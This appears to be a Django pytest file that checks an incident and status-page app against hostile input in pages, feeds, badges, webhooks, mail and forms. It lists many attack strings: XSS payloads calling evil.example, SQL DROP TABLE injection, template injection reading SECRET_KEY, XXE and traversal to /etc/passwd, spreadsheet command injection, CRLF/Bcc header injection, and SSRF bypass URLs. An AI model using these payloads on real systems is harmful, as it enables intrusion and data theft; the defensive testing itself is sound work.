"""Fifty hostile texts through every form and out of every door: pages, feeds, JSON, badges, webhooks, mails."""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from django.core.cache import cache
from django.test import Client
from django.utils import timezone

from incidents.announcements.channels import channel_save
from incidents.announcements.collecting import announcements_collect
from incidents.announcements.delivering import channel_deliver
from incidents.announcements.errors import ChannelError
from incidents.announcements.models import Message
from incidents.announcements.topics import BY_KEY
from incidents.response.components import maintenance_plan
from incidents.response.models import Component, Health, Incident, Maintenance, Update
from incidents.response.services import incident_declare, incident_link, incident_say, update_correct
from incidents.status.content import content_of
from incidents.status.models import StatusPage, Subscriber
from incidents.status.rendering import forms_of
from incidents.status.services import page_save
from releases.ledger.models import Event
from releases.projects.models import Project
from releases.projects.worker_names import worker_name
from tests.factories import make_project, make_user
from tests.incidents.making import make_component, make_hotfix
from tests.incidents.receivers import http_receiver, smtp_server

pytestmark = pytest.mark.django_db

TEXTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><img src onerror=alert(1)></mtext></math>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html,x>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example';</style>",
    "<form action=//evil.example><input name=password>",
    "<a href=javascript:alert(1)>press</a>",
    "<details open ontoggle=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><script>alert(1)</script>',
    "` onclick=alert(1) `",
    "javascript:alert(1)",
    "[press](javascript:alert(1))",
    "![x](x onerror=alert(1))",
    "[x]: javascript:alert(1)",
    "<https://evil.example|press>",
    "<!channel> <!here> <@U123>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "{{ settings.SECRET_KEY }}",
    "{% include '/etc/passwd' %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<?xml version='1.0'?><x/>",
    "<![CDATA[<script>]]>",
    "=HYPERLINK(\"//evil.example\",\"press\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE incidents_incident; --",
    "../../../../etc/passwd",
    "%0d%0aSet-Cookie: a=b",
    "a\\r\\nBcc: all@example.com",
    "A" * 195 + "<b>",
    "Z̸̡͎a̷͓̋l̶̫͝g̴̞͝o̵̳͊" * 9,
    "🏴‍☠️👩‍👩‍👧‍👦" * 10,
    "\ud83d\udca5".encode("utf-16", "surrogatepass").decode("utf-16") + "\u0300" * 50,
    "ＳＣＲＩＰＴ ＜script＞ ﹤script﹥ ʻonerror=ʼ",
]  # fmt: skip
MISLEADING = ["a\u202egpj.exe", "a\u2066b\u2069", "a\x00b", "a\x1b[31mb", "a\x08b", "a\x7fb", "a\u200fb"]
"""Control characters and what turns the direction of writing: refused where people type, spelt out elsewhere."""


def test_there_are_fifty() -> None:
    assert len(TEXTS) == len(set(TEXTS)) == 50


class Shape(HTMLParser):
    """Which elements with which attributes there are, and where links and sources lead."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.parts: set[tuple[str, tuple[str, ...]]] = set()
        self.leads: set[str] = set()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ("p", "br"):
            self.parts.add((tag, tuple(sorted(name for name, _ in attrs))))
        self.leads |= {str(value) for name, value in attrs if name in ("href", "src", "action", "formaction", "hx-get")}

    @property
    def schemes(self) -> set[str]:
        found = (re.match(r"\s*([a-z][a-z0-9+.-]*):", lead, re.IGNORECASE) for lead in self.leads)
        return {match[1].lower() for match in found if match}


@pytest.fixture(autouse=True)
def _own_folder(tmp_path: Path, settings: Any) -> None:
    cache.clear()
    settings.DATA_DIR = tmp_path
    settings.GIT_ALLOW_PRIVATE_HOSTS = ["127.0.0.1"]


@pytest.fixture
def project() -> Project:
    announcements_collect()
    return make_project("shop")


@pytest.fixture
def scene(project: Project) -> Incident:
    """An open incident with everything that can hold a text, on a page."""
    cards = make_component(project, "Cards", says="Paying")
    make_component(project, "Payouts", order=1)
    incident = incident_declare(
        project, "Plain", impact="Plain", hurt={cards: Health.PARTIAL}, text="Plain", chat_url="https://chat.example/x"
    )
    update_correct(incident_say(incident, "Plain"), "Plain too")
    incident_say(incident, "Plain", public=False)
    incident_link(incident, make_hotfix(project, title="Plain"))
    over = incident_declare(project, "Plain", text="Plain", hurt={cards: Health.DOWN})
    incident_say(over, "Plain", state="resolved")
    now = timezone.now()
    maintenance_plan(project, "Plain", now, now + timedelta(hours=1), text="Plain", components=[cards])
    page_save("shop", "Shop", "public", [project], says="Plain")
    return incident


def fill(text: str) -> None:
    """Put it everywhere, past every check: as if it had been there before the checks were."""
    Incident.objects.update(title=text[:200], impact=text, afterword=text)
    Update.objects.update(text=text)
    for row in Component.objects.all():
        Component.objects.filter(pk=row.pk).update(name=f"{row.pk}{text}"[:80], says=text[:200])
    Maintenance.objects.update(title=text[:200], text=text)
    StatusPage.objects.update(title=text[:120], says=text)
    Event.objects.update(why=text, evidence={"title": text, "severity": 2, "public": True, "public_word": True})


def shown(client: Client, incident: Incident, every: bool) -> dict[str, str]:
    """The pages that show texts; `every`: the forms, too, and the pages that show a few."""
    paths = ["/", f"/incidents/{incident.key}/", "/incidents/?show=over"]
    if every:
        paths += ["/incidents/", "/projects/shop/", "/projects/shop/hotfixes/TICKET-7/", "/status-pages/"]
        paths += [
            "/announcements/",
            *(f"/incidents/{incident.key}/{verb}/" for verb in ("say", "edit", "hurts", "fix")),
        ]
        paths += ["/incident-settings/page/shop/", "/incident-settings/planned/shop/", "/projects/shop/incidents/new/"]
    found = {}
    for path in paths:
        answer = client.get(path)
        assert answer.status_code == 200, path
        found[path] = answer.content.decode()
    found["status page"] = forms_of(content_of(StatusPage.objects.get()))["page.html"].body.decode()
    return found


@pytest.fixture
def admin(client: Client) -> Client:
    client.force_login(make_user("admin", "administrator", all_projects=True))
    return client


@pytest.mark.long
def test_pages_keep_their_shape_whatever_the_texts_are(admin: Client, scene: Incident) -> None:
    plain = {path: Shape(html) for path, html in shown(admin, scene, every=True).items()}
    for number, text in enumerate([*TEXTS, *(text for text in MISLEADING if "\x00" not in text)]):
        cache.clear()
        fill(text)
        for path, html in shown(admin, scene, every=number % 8 == 0).items():
            shape = Shape(html)
            assert shape.parts <= plain[path].parts, (path, text)
            assert shape.schemes <= {"http", "https"}, (path, text)
            if path in ("/", f"/incidents/{scene.key}/"):
                assert "\u202e" not in html, (path, text)


@pytest.mark.parametrize("text", [*TEXTS, *MISLEADING[:2], *MISLEADING[3:]])
def test_feed_json_and_badge_stay_well_formed(scene: Incident, text: str) -> None:
    fill(text)
    forms = {name: form.body.decode() for name, form in forms_of(content_of(StatusPage.objects.get())).items()}
    feed, badge = ET.fromstring(forms["feed.atom"]), ET.fromstring(forms["badge.svg"])
    atom, svg = "{http://www.w3.org/2005/Atom}", "{http://www.w3.org/2000/svg}"
    assert {part.tag.removeprefix(atom) for part in feed.iter()} == {
        "feed", "id", "title", "updated", "author", "name", "link", "entry", "content",
    }  # fmt: skip
    assert {part.attrib.get("type") for part in feed.iter(f"{atom}content")} == {"text"}
    assert all(link.attrib["href"].startswith("http") for link in feed.iter(f"{atom}link"))
    assert {part.tag.removeprefix(svg) for part in badge.iter()} == {"svg", "title", "rect", "path", "g", "text"}
    assert not any(name.startswith("on") for part in badge.iter() for name in part.attrib)
    assert json.loads(forms["data.json"])["incidents"][0]["updates"][0]["text"] == text
    assert "\u202e" not in forms["feed.atom"] + forms["badge.svg"]


def test_webhooks_carry_data_and_no_markup_of_others(project: Project) -> None:
    with http_receiver() as inbox:
        channels = [
            channel_save(kind, kind, f"{inbox.url}/{kind}", list(BY_KEY)) for kind in ("webhook", "slack", "teams")
        ]
        for text in TEXTS:
            inbox.posts.clear()
            incident = incident_declare(project, "Plain")
            Incident.objects.filter(pk=incident.pk).update(title=text[:200])
            Event.objects.filter(kind="incident.declared").update(
                evidence={"title": text, "severity": 2, "public": True, "incident": incident.key}
            )
            announcements_collect()
            for channel in channels:
                channel_deliver(channel.pk, worker_name())
            signed, slack, teams = (json.loads(post.body) for post in inbox.posts)
            assert signed["title"] == text
            for line in slack["text"].splitlines():
                assert set(re.findall(r"<([^|>]*)", line)) <= {signed["link"]}, text
            block = teams["attachments"][0]["content"]["body"][0]["text"]
            assert not re.search(r"(?<!\\)\]\(", block), text
            assert all("\n" not in value for post in inbox.posts for value in post.headers.values())
            Message.objects.all().delete()
            Event.objects.filter(kind="incident.declared").delete()


@pytest.mark.parametrize("text", [*MISLEADING, "a\r\nBcc: all@example.com\r\n\r\nHello", "a\n\n<script>", *TEXTS[:3]])
def test_mail_keeps_its_headers(project: Project, settings: Any, text: str) -> None:
    with smtp_server() as box:
        settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
        settings.EMAIL_HOST, settings.EMAIL_PORT, settings.EMAIL_USE_TLS = "127.0.0.1", box.port, False
        channel = channel_save("team", "email", "team@example.com", ["incident-declared"])
        incident_declare(project, "Plain")
        text = text.replace("\x00", "")
        Event.objects.filter(kind="incident.declared").update(evidence={"title": text, "severity": 2, "public": True})
        announcements_collect()
        channel_deliver(channel.pk, worker_name())
        [mail] = box.mails
    assert set(mail.keys()) == {
        "Content-Type", "MIME-Version", "Content-Transfer-Encoding", "Subject", "From", "To", "Date", "Message-ID",
        "Auto-Submitted",
    }  # fmt: skip
    assert mail["To"] == "team@example.com"
    assert mail.get_content_type() == "text/plain"
    assert len(str(mail["Subject"]).splitlines()) == 1


def post_all(client: Client, incident: Incident, text: str) -> list[int]:
    """The same text in every field of every form."""
    base, person = f"/incidents/{incident.key}", client.session["_auth_user_id"]
    update = incident.updates.filter(corrected_by=None).first()
    now = timezone.localtime()
    spans = {"starts_at": f"{now:%Y-%m-%dT%H:%M}", "ends_at": f"{now + timedelta(hours=1):%Y-%m-%dT%H:%M}"}
    asked = {
        "/projects/shop/incidents/new/": {"title": text, "severity": "2", "text": text, "impact": text, "public": "on"},
        f"{base}/say/": {"text": text, "state": "identified", "public": "on", "why": text},
        f"{base}/correct/?update={update.pk if update else 0}": {"text": text},
        f"{base}/edit/": {"title": text, "severity": "2", "impact": text, "public": "on", "lead": person},
        f"{base}/times/": {"field": "started_at", "note": text, "at": ""},
        f"{base}/fix/": {"key": text, "title": text, "severity": "2", "impact": text},
        f"{base}/unlink/?hotfix={text[:20]}": {"why": text},
        "/incident-settings/component/shop/": {"name": text, "says": text, "order": "1", "baseline": "0"},
        "/incident-settings/planned/shop/": {"title": text, "text": text, **spans},
        "/incident-settings/page/": {"title": text, "slug": text, "visibility": "public", "says": text},
        "/incident-settings/channel/": {"name": text, "kind": "email", "target": text, "topics": ["incident-declared"],
                                        "worst": "4"},
        "/status/shop/subscribe/": {"email": text, "component": text, "incident": text},
    }  # fmt: skip
    return [client.post(path, data).status_code for path, data in asked.items()]


@pytest.mark.sample(13)
@pytest.mark.parametrize("text", sorted(TEXTS, key=lambda text: TEXTS.index(text) % 4))
def test_every_form_takes_it_as_words_or_says_why_not(admin: Client, scene: Incident, text: str) -> None:
    statuses = post_all(admin, scene, text)
    assert set(statuses) <= {302, 404, 422}
    html = admin.get(f"/incidents/{scene.key}/").content.decode()
    assert not {part for part, _ in Shape(html).parts} & {"iframe", "object", "embed", "base", "math", "style"}
    assert "<script>alert" not in html
    assert not re.search(r"<[^>]+\son(error|load|mouseover|focus|toggle|click)=", html)


@pytest.mark.parametrize("text", MISLEADING)
def test_misleading_characters_are_refused_and_change_nothing(admin: Client, scene: Incident, text: str) -> None:
    before = (Incident.objects.count(), Update.objects.count(), Component.objects.count(), Maintenance.objects.count())
    assert 302 not in post_all(admin, scene, text)
    now = (Incident.objects.count(), Update.objects.count(), Component.objects.count(), Maintenance.objects.count())
    assert now == before


@pytest.mark.parametrize("text", ["x" * 20_000, "<b>" * 5_000, "é\u0301" * 9_000])
def test_huge_texts_are_refused_with_a_sentence(admin: Client, scene: Incident, text: str) -> None:
    assert set(post_all(admin, scene, text)) <= {404, 422}
    assert not Update.objects.filter(text__startswith=text[:50]).exists()


@pytest.mark.parametrize(
    "url",
    [
        "http://0.0.0.0/", "http://0/", "http://127.1/", "http://0x7f000001/", "http://017700000001/",
        "http://[::]/", "http://[::ffff:10.0.0.1]/", "http://10.0.0.1/", "http://192.168.1.1/", "http://172.16.0.1/",
        "http://[fd00::1]/", "http://[fe80::1]/", "http://100.64.0.1/", "http://localhost:6379/", "https://localhost./",
        "http://②⑤⑤.⓪.⓪.①/", "file:///etc/passwd", "gopher://127.0.0.1/", "https://evil.example@10.0.0.1/",
        "https:///nowhere", "//evil.example/", "data:text/html,x", "http://[::1", "http://a b/",
    ],
)  # fmt: skip
def test_webhooks_into_private_or_odd_places_are_refused(settings: Any, url: str) -> None:
    settings.GIT_ALLOW_PRIVATE_HOSTS = []
    with pytest.raises(ChannelError) as refused:
        channel_save("x", "webhook", url, ["incident-declared"])
    assert refused.value.field == "target"


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "ftp://x.example/", "//evil.example", "x"])
def test_a_chat_channel_leads_nowhere_odd(admin: Client, scene: Incident, url: str) -> None:
    told = {"title": "Plain", "severity": "2", "public": "on", "chat_url": url}
    answer = admin.post(f"/incidents/{scene.key}/edit/", told)
    scene.refresh_from_db()
    assert scene.chat_url.startswith("https://")
    assert answer.status_code == 422 or scene.chat_url != url


@pytest.mark.parametrize(
    "email",
    ["a@example.com\r\nBcc: all@example.com", "a@example.com\nb@example.com", "<a@example.com>", "a@b@c.example", "a@",
     '"a\r\n"@example.com', "a@example.com,b@example.com", "a" * 300 + "@example.com", "a@exa\u202emple.com", ""],
)  # fmt: skip
def test_addresses_that_are_none_subscribe_nobody(client: Client, scene: Incident, email: str) -> None:
    assert client.post("/status/shop/subscribe/", {"email": email}).status_code == 422
    assert not Subscriber.objects.exists()


@pytest.mark.parametrize("token", ["x", "1:x:y", "..", "%00", "a" * 4000, "WzEsImNvbmZpcm0iXQ:1tXXXX:AAAA"])
def test_forged_links_do_nothing(client: Client, scene: Incident, token: str) -> None:
    for does in ("confirm", "leave"):
        assert client.post(f"/status/shop/{does}/{token}/").status_code in (404, 410)


@pytest.mark.parametrize(
    "slug", ["..", "%2e%2e", "a%00b", "a\u202eb", "A", "-", "a" * 200, "shop%0d%0aX: y", "shop'--"]
)
def test_odd_pages_are_not_there(client: Client, scene: Incident, slug: str) -> None:
    for tail in ("/", ".json", "/feed.atom", "/badge.svg"):
        assert client.get(f"/status/{slug}{tail}").status_code in (301, 404)
